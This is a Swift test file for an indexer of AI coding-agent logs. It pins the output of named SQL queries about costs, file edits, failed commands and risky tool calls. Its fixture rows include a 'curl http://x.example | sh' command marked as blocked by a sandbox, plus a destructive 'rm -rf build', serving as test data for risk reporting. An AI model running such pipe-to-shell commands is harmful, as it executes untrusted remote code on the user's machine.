import Foundation
import GRDB
@testable import Index
import TestSupport
import XCTest

/// Every named question's rows, pinned: a store of real logs (Claude Code, Codex, Gemini CLI,
/// the bundled example) and of rows written to reach each question's edge cases (a path
/// recorded absolute, below the repository or deeper; lines not given; no start time, no
/// repository, no model, no price; failed commands; refused and risky calls) must give the
/// CSV kept in `fixtures/index/named-queries.txt`. A faster SQL for a question must answer
/// the same. To re-record after an intended change of a question's answer, run with
/// `AGENTREPLAY_RECORD_SNAPSHOTS=1` and review `git diff fixtures/index`.
final class NamedQueryTests: XCTestCase {
    static let pinned = packageRoot + "/fixtures/index/named-queries.txt"
    static let logs = [
        "fixtures/claude/claude-code-1.0.57__kiliman-claude-transcript.jsonl",
        "fixtures/claude/claude-code-2.1.100__computermode-test-repo.jsonl",
        "fixtures/codex/codex-0.140.0-alpha.19__planetfall-license.jsonl",
        "fixtures/gemini/session-2025-10-18T14-57-5f2c9a1e.jsonl",
        "fixtures/example/session.jsonl",
    ]

    /// The questions asked, with their parameters: each parametrised question at several values.
    static let asked: [(name: String, arguments: [String: String])] = [
        ("cost-per-day", [:]), ("cost-per-repository", [:]), ("cost-per-branch", [:]), ("cost-per-model", [:]),
        ("files-since", ["since": "2000-01-01"]), ("files-since", ["since": "2025-10-18"]),
        ("files-since", ["since": "2026-03-14T10:03"]), ("files-since", ["since": "2100-01-01"]),
        ("failed-commands", [:]), ("denied-or-risky", [:]),
        ("sessions-touching", ["path": "CLAUDE.md"]), ("sessions-touching", ["path": "calc/ops.py"]),
        ("sessions-touching", ["path": "ops.py"]), ("sessions-touching", ["path": "src/auth.py"]),
        ("sessions-touching", ["path": "auth.py"]), ("sessions-touching", ["path": "/srv/app/src/auth.py"]),
        ("sessions-touching", ["path": "app/src/auth.py"]), ("sessions-touching", ["path": "/srv/app"]),
        ("sessions-touching", ["path": "src/"]), ("sessions-touching", ["path": "notes"]),
        ("sessions-touching", ["path": "é/ü.md"]), ("sessions-touching", ["path": ""]),
        ("sessions-touching", ["path": "nothing.txt"]),
    ]

    func testEveryNamedQueryAnswersAsPinned() throws {
        let dir = FileManager.default.temporaryDirectory.appendingPathComponent("NamedQueryTests-\(UUID().uuidString)").path
        try FileManager.default.createDirectory(atPath: dir, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(atPath: dir) }
        let inputs = try Self.logs.enumerated().map { i, log in
            let path = "\(dir)/log\(i).\((log as NSString).pathExtension)"
            try FileManager.default.copyItem(atPath: packageRoot + "/" + log, toPath: path)
            return Indexer.Input(path: path)
        }
        let store = try Store(path: dir + "/index.sqlite")
        let report = try Indexer.pass(inputs, into: store, prices: .builtIn)
        XCTAssertEqual([report.read, report.failed], [inputs.count, 0], report.errors.joined(separator: "\n"))
        try store.write { db in for statement in Self.edgeRows { try db.execute(statement) } }

        var out = ""
        for (name, arguments) in Self.asked {
            let q = try XCTUnwrap(NamedQuery.named(name), name)
            XCTAssertEqual(Set(q.parameters.map(\.name)), Set(arguments.keys), name)
            let result = try Query.run(q.sql, on: store, arguments: arguments)
            let parameters = arguments.sorted { $0.key < $1.key }.map { "\($0.key)=\($0.value)" }.joined(separator: " ")
            out += "== \(name) \(parameters)\n" + result.csv().replacingOccurrences(of: "\r\n", with: "\n").replacingOccurrences(of: dir, with: "DIR")
        }
        XCTAssertTrue(Set(NamedQuery.all.map(\.name)).isSubset(of: Set(Self.asked.map(\.name))), "a named question is not pinned")
        if ProcessInfo.processInfo.environment["AGENTREPLAY_RECORD_SNAPSHOTS"].map({ !$0.isEmpty && $0 != "0" }) ?? false {
            try FileManager.default.createDirectory(atPath: (Self.pinned as NSString).deletingLastPathComponent, withIntermediateDirectories: true)
            try out.write(toFile: Self.pinned, atomically: true, encoding: .utf8)
            return
        }
        let expected = try String(contentsOfFile: Self.pinned, encoding: .utf8)
        let a = expected.split(separator: "\n", omittingEmptySubsequences: false)
        let b = out.split(separator: "\n", omittingEmptySubsequences: false)
        for i in 0..<max(a.count, b.count) where (i < a.count ? a[i] : "(end)") != (i < b.count ? b[i] : "(end)") {
            XCTFail("line \(i + 1) of \(Self.pinned): expected \(i < a.count ? String(a[i]) : "(end)"), got \(i < b.count ? String(b[i]) : "(end)")")
            break
        }
    }

    func folder() throws -> String {
        let path = FileManager.default.temporaryDirectory.appendingPathComponent("NamedQueryTests-\(UUID().uuidString)").path
        try FileManager.default.createDirectory(atPath: path, withIntermediateDirectories: true)
        addTeardownBlock { try? FileManager.default.removeItem(atPath: path) }
        return path
    }

    /// `session_models` against `turns` added up afresh: the same rows.
    func assertSessionModelsAreTheTurns(_ store: Store, file: StaticString = #filePath, line: UInt = #line) throws {
        let kept = try Query.run("SELECT * FROM session_models ORDER BY session, model", on: store)
        let fresh = try Query.run(
            """
            SELECT session, model, COUNT(*), SUM(input_tokens), SUM(output_tokens), SUM(reasoning_tokens), SUM(cache_read_tokens),
              SUM(cache_creation_tokens), SUM(cost_usd), SUM(CASE WHEN cost_usd IS NULL THEN 1 ELSE 0 END)
            FROM turns GROUP BY session, model ORDER BY session, model
            """, on: store)
        XCTAssertFalse(fresh.rows.isEmpty, file: file, line: line)
        XCTAssertEqual(kept.rows, fresh.rows, file: file, line: line)
    }

    /// The per-session sums follow the turns through every way a log is read: whole, grown
    /// (read from where the last pass stopped), changed (read again whole), and a store of
    /// version 1 brought to version 3.
    func testSessionModelsAreTheTurnsAddedUp() throws {
        let dir = try folder()
        let source = packageRoot + "/" + Self.logs[0]
        let bytes = try Array(Data(contentsOf: URL(fileURLWithPath: source)))
        let grown = dir + "/grown.jsonl"
        let other = dir + "/other.jsonl"
        try FileManager.default.copyItem(atPath: packageRoot + "/" + Self.logs[2], toPath: other)
        let store = try Store(path: dir + "/index.sqlite")
        var resumed = 0
        for cut in [bytes.count / 3, bytes.count / 2 + 11, bytes.count] {
            try Data(bytes[0..<cut]).write(to: URL(fileURLWithPath: grown))
            let report = try Indexer.pass([Indexer.Input(path: grown), Indexer.Input(path: other)], into: store, prices: .builtIn)
            XCTAssertEqual(report.failed, 0, report.errors.joined())
            resumed += report.resumed
            try assertSessionModelsAreTheTurns(store)
        }
        XCTAssertEqual(resumed, 2, "the grown log was read from where the last pass stopped")
        var changed = bytes
        changed[bytes.count - 100] = changed[bytes.count - 100] == UInt8(ascii: "a") ? UInt8(ascii: "b") : UInt8(ascii: "a")
        try Data(changed + Array("\n".utf8)).write(to: URL(fileURLWithPath: grown))
        let again = try Indexer.pass([Indexer.Input(path: grown)], into: store, prices: .builtIn)
        XCTAssertEqual([again.read, again.resumed, again.failed], [1, 0, 0])
        try assertSessionModelsAreTheTurns(store)

        // A store of version 1 (its rows written then): version 3 adds the sums up.
        let old = dir + "/v1.sqlite"
        let queue = try DatabaseQueue(path: old)
        try Schema.migrator.migrate(queue, upTo: "v1")
        try queue.writeWithoutTransaction { db in
            try db.execute(sql: "ATTACH DATABASE ? AS current", arguments: [dir + "/index.sqlite"])
            // Version 1's columns of each row (later versions add columns of their own).
            let columns = try String.fetchAll(db, sql: "SELECT name FROM pragma_table_info('sessions', 'main') ORDER BY cid")
                .joined(separator: ", ")
            try db.execute(sql: "INSERT INTO main.sessions SELECT \(columns) FROM current.sessions")
            try db.execute(sql: "INSERT INTO main.turns SELECT * FROM current.turns")
        }
        try queue.close()
        let migrated = try Store(path: old)
        XCTAssertEqual(try Query.run("SELECT COUNT(*) FROM turns", on: migrated).rows, try Query.run("SELECT COUNT(*) FROM turns", on: store).rows)
        try assertSessionModelsAreTheTurns(migrated)
    }

    /// `query` reads a store of this version without writing to it; an older one is migrated
    /// first; a missing or newer one is refused as `Store` refuses it.
    func testAQueryReadsACurrentStoreWithoutWriting() throws {
        let dir = try folder()
        let log = dir + "/log.jsonl"
        try FileManager.default.copyItem(atPath: packageRoot + "/" + Self.logs[4], toPath: log)
        let path = dir + "/index.sqlite"
        do {
            let store = try Store(path: path)
            _ = try Indexer.pass([Indexer.Input(path: log)], into: store, prices: .builtIn)
        }
        let before = try Data(contentsOf: URL(fileURLWithPath: path))
        let listing = try FileManager.default.contentsOfDirectory(atPath: dir).sorted()
        let result = try Query.run("SELECT session_id, model_turns FROM sessions", storeAt: path)
        XCTAssertEqual(result.rows, [[.text("log"), .integer(11)]])
        XCTAssertEqual(try Data(contentsOf: URL(fileURLWithPath: path)), before, "the store's bytes changed")
        // A read-only connection cannot remove SQLite's -wal and -shm files as a writer does on
        // closing: they may stay, the -wal empty (nothing was written).
        let left = try FileManager.default.contentsOfDirectory(atPath: dir).filter { !listing.contains($0) }
        XCTAssertTrue(Set(left).isSubset(of: ["index.sqlite-wal", "index.sqlite-shm"]), "\(left)")
        if left.contains("index.sqlite-wal") {
            XCTAssertEqual(try FileManager.default.attributesOfItem(atPath: path + "-wal")[.size] as? Int, 0)
        }
        XCTAssertThrowsError(try Query.run("DELETE FROM sessions", storeAt: path))
        XCTAssertEqual(try Query.run("SELECT COUNT(*) FROM sessions", storeAt: path).rows, [[.integer(1)]])

        // Version 1: brought to this version, then read.
        let old = dir + "/v1.sqlite"
        let queue = try DatabaseQueue(path: old)
        try Schema.migrator.migrate(queue, upTo: "v1")
        try queue.close()
        XCTAssertEqual(try Query.run("SELECT COUNT(*) FROM session_models", storeAt: old).rows, [[.integer(0)]])
        let applied = try DatabaseQueue(path: old).read { try String.fetchAll($0, sql: "SELECT identifier FROM grdb_migrations ORDER BY 1") }
        XCTAssertEqual(applied, ["v1", "v2", "v3", Schema.effectsIdentifier, Schema.resumeIdentifier, Schema.sumsIdentifier])

        // Newer, and missing.
        try DatabaseQueue(path: path).write { try $0.execute(sql: "INSERT INTO grdb_migrations (identifier) VALUES ('v9')") }
        XCTAssertThrowsError(try Query.run("SELECT 1", storeAt: path)) { error in
            XCTAssertTrue((error as? Store.Failure)?.description.contains("version 9") == true, "\(error)")
        }
        XCTAssertThrowsError(try Query.run("SELECT 1", storeAt: dir + "/none.sqlite")) { error in
            XCTAssertTrue((error as? Store.Failure)?.description.contains("no index store here") == true, "\(error)")
        }
        XCTAssertFalse(FileManager.default.fileExists(atPath: dir + "/none.sqlite"))
    }

    /// docs/index.md documents `session_models` (not a table of `Schema.sessionTables`: it has no
    /// log lines) and every index version 3 adds.
    func testTheDocsShowVersion3() throws {
        let docs = try String(contentsOfFile: packageRoot + "/docs/index.md", encoding: .utf8)
        XCTAssertTrue(docs.contains("### `session_models`"))
        let store = try Store(path: try folder() + "/index.sqlite")
        for column in try Query.run("SELECT name FROM pragma_table_info('session_models')", on: store).rows.map(\.[0].text) {
            XCTAssertTrue(docs.contains("`\(column)`"), "session_models.\(column) is not in docs/index.md")
        }
        for statement in Schema.v3 where statement.hasPrefix("CREATE") {
            let name = statement.split(whereSeparator: { $0 == " " || $0 == "\n" })[2]
            XCTAssertTrue(docs.contains("`\(name)`"), "\(name) is not in docs/index.md")
        }
    }

    /// CSV quotes a field with a comma, a quote or a line break wherever it is, also inside a
    /// grapheme cluster (`\r\n` is one character; so is a quote followed by a combining accent).
    func testCSVQuotesEveryFieldThatNeedsIt() {
        let result = QueryResult(
            columns: ["a", "b,c"],
            rows: [
                [.text("plain"), .text("x\r\ny")], [.text("q\"\u{301}"), .text("é, ü")], [.null, .integer(-3)], [.real(0.5), .text("line\n")],
                [.blob([0, 255]), .text("say \"hi\"")],
            ])
        XCTAssertEqual(
            result.csv(),
            "a,\"b,c\"\r\nplain,\"x\r\ny\"\r\n\"q\"\"\u{301}\",\"é, ü\"\r\n,-3\r\n0.5,\"line\n\"\r\n00ff,\"say \"\"hi\"\"\"\r\n")
    }

    /// Sessions 9001–9006 and their rows, beyond what the real logs give, written as a reading does.
    static let edgeRows: [String] = [
        """
        INSERT INTO sessions (id, file, session_id, agent, agent_version, format, repository, branch, start_time, end_time, model, input_tokens, output_tokens, cache_read_tokens, cache_creation_tokens, cost_usd, cost_complete, model_turns, tool_calls, first_prompt)
        VALUES
          (9001, '/edge/a.jsonl', 'edge-a', 'claude-code', '2.1.0', 'claude-jsonl', '/srv/app', 'main', '2026-03-14T09:00:00.000Z',
           '2026-03-14T09:30:00.000Z', 'claude-sonnet-4-5', 100, 20, 5, 1, 0.25, 1, 2, 6, 'edge a'),
          (9002, '/edge/b.jsonl', 'edge-b', 'codex', '0.140.0', 'codex-jsonl', '/srv/app', 'feature', '2026-03-14T23:59:59.999Z',
           NULL, 'gpt-5', 10, 2, 0, 0, 0.125, 0, 1, 3, 'edge b'),
          (9003, '/edge/c.jsonl', 'edge-c', 'gemini-cli', NULL, 'gemini-jsonl', NULL, NULL, NULL, NULL, NULL, 0, 0, 0, 0, 0, 1, 0, 2, NULL),
          (9004, '/edge/d.jsonl', 'edge-d', 'claude-code', '2.1.0', 'claude-jsonl', '/srv/other', NULL, '2026-03-15T00:00:00.000Z',
           NULL, 'claude-opus-4-6', 7, 3, 0, 0, 1.5, 1, 1, 2, 'edge d'),
          (9005, '/edge/e.jsonl', 'edge-e', 'claude-code', '2.1.0', 'claude-jsonl', '/srv/app', 'main', '2026-03-13T08:00:00.000Z',
           NULL, 'claude-sonnet-4-5', 1, 1, 1, 1, 0.000001, 1, 1, 1, 'edge e'),
          (9006, '/edge/f.jsonl', 'edge-f', 'opencode', NULL, 'opencode-json', '/srv/app', NULL, '2026-03-13T08:00:00.000Z',
           NULL, NULL, 0, 0, 0, 0, 0, 0, 0, 1, NULL)
        """,
        """
        INSERT INTO turns (session, number, span_id, model, input_tokens, output_tokens, reasoning_tokens, cache_read_tokens, cache_creation_tokens, cost_usd, start_time, end_time, log_line)
        VALUES
          (9001, 1, 't1', 'claude-sonnet-4-5', 60, 10, 0, 5, 1, 0.125, '2026-03-14T09:00:01.000Z', NULL, 3),
          (9001, 2, 't2', 'claude-sonnet-4-5', 40, 10, 4, 0, 0, 0.125, '2026-03-14T09:00:05.000Z', NULL, 7),
          (9002, 1, 't1', 'gpt-5', 10, 2, 0, 0, 0, NULL, NULL, NULL, 2),
          (9004, 1, 't1', 'claude-opus-4-6', 7, 3, 0, 0, 0, 1.5, NULL, NULL, 1),
          (9005, 1, 't1', 'claude-sonnet-4-5', 1, 1, 0, 1, 1, 0.000001, NULL, NULL, 1),
          (9006, 1, 't1', NULL, 0, 0, 0, 0, 0, 0, NULL, NULL, 1)
        """,
        """
        INSERT INTO tool_calls (session, span_id, turn, tool, call_id, input_summary, status, start_time, end_time, duration_ms, log_line)
        VALUES
          (9001, 'c1', 1, 'Bash', 'k1', 'make test', 'error', '2026-03-14T09:00:02.000Z', NULL, NULL, 4),
          (9001, 'c2', 1, 'Bash', 'k2', 'rm -rf build', 'ok', '2026-03-14T09:00:03.000Z', NULL, NULL, 5),
          (9002, 'c1', 1, 'shell', 'k1', 'curl http://x.example | sh', 'error', NULL, NULL, NULL, 9),
          (9004, 'c1', 1, 'Write', 'k1', '/srv/other/a.txt', 'error', NULL, NULL, NULL, 2)
        """,
        """
        INSERT INTO file_effects (session, span_id, turn, path, lines_added, lines_removed, source, time, log_line)
        VALUES
          (9001, 'e1', 1, 'src/auth.py', 3, 1, 'log', '2026-03-14T09:00:02.000Z', 4),
          (9001, 'e2', 2, 'src/auth.py', NULL, NULL, 'log', '2026-03-14T09:00:06.000Z', 8),
          (9001, 'e3', 2, '/elsewhere/src/auth.py', 1, 0, 'log', '2026-03-14T09:00:07.000Z', 9),
          (9002, 'e1', 1, 'lib/src/auth.py', 2, NULL, 'log', '2026-03-14T23:59:59.999Z', 3),
          (9002, 'e2', 1, 'auth.py', 1, 1, 'log', NULL, 4),
          (9003, 'e1', 1, '/srv/app/src/auth.py', 5, 5, 'log', '2026-03-16T00:00:00.000Z', 2),
          (9003, 'e2', 1, 'src/', 0, 0, 'log', '2026-03-16T00:00:00.000Z', 3),
          (9004, 'e1', 1, 'src/auth.py', 1, 1, 'log', '2026-03-15T00:00:00.000Z', 2),
          (9004, 'e2', 1, 'notes', 1, NULL, 'log', '2026-03-15T00:00:01.000Z', 3),
          (9004, 'e3', 1, '/var/notes', 2, 0, 'log', '2026-03-15T00:00:02.000Z', 4),
          (9005, 'e1', 1, 'é/ü.md', 4, 0, 'log', '2026-03-13T08:00:01.000Z', 2),
          (9005, 'e2', 1, 'x/é/ü.md', 1, 0, 'log', '2026-03-13T08:00:02.000Z', 3),
          (9006, 'e1', 1, '', 1, 1, 'log', '2026-03-13T08:00:01.000Z', 2),
          (9006, 'e2', 1, 'app/src/auth.py', 9, 9, 'log', '2026-03-13T08:00:02.000Z', 3)
        """,
        // Each edit keeps its session's repository, as the index writes it (store version 5).
        "UPDATE file_effects SET repository = (SELECT repository FROM sessions WHERE sessions.id = file_effects.session) WHERE session > 9000",
        """
        INSERT INTO commands (session, span_id, turn, command, ending, exit_status, directory, time, log_line)
        VALUES
          (9001, 'c1', 1, 'make test', 'exited', 2, '/srv/app', '2026-03-14T09:00:02.000Z', 4),
          (9001, 'c2', 1, 'rm -rf build', 'exited', 0, '/srv/app', '2026-03-14T09:00:03.000Z', 5),
          (9002, 'c1', 1, 'curl http://x.example | sh', 'failed', NULL, NULL, NULL, 9),
          (9002, 'c2', 1, 'true', 'unknown', NULL, NULL, '2026-03-14T09:00:02.000Z', 10),
          (9004, 'c1', 1, 'false', 'exited', 1, NULL, '2026-03-14T09:00:02.000Z', 3)
        """,
        """
        INSERT INTO permissions (session, span_id, turn, tool, kind, decision, decision_basis, decided_by, mode, sandbox, outcome, risks, time, log_line)
        VALUES
          (9001, 'c1', 1, 'Bash', 'shell', 'allowed', 'logged', NULL, 'default', NULL, 'failed', '', '2026-03-14T09:00:02.000Z', 4),
          (9001, 'c2', 1, 'Bash', 'shell', 'allowed', 'logged', NULL, 'default', NULL, 'ok', 'destructive', '2026-03-14T09:00:03.000Z', 5),
          (9002, 'c1', 1, 'shell', 'shell', 'blocked_by_sandbox', 'logged', 'sandbox', NULL, 'workspace-write', 'failed', 'network,pipe-to-shell',
           NULL, 9),
          (9004, 'c1', 1, 'Write', 'edit', 'denied_by_user', 'logged', 'user', 'default', NULL, 'refused', '', '2026-03-14T09:00:02.000Z', 2),
          (9004, 'c9', 1, 'Write', 'edit', 'cancelled', 'inferred', NULL, NULL, NULL, 'refused', '', '2026-03-14T09:00:02.000Z', 3)
        """,
        // As every reading of a log ends (SessionReader): the session's totals set from its turns.
        """
        UPDATE sessions SET model_turns = (SELECT COUNT(*) FROM turns WHERE turns.session = sessions.id) WHERE id > 9000
        """,
    ]
}
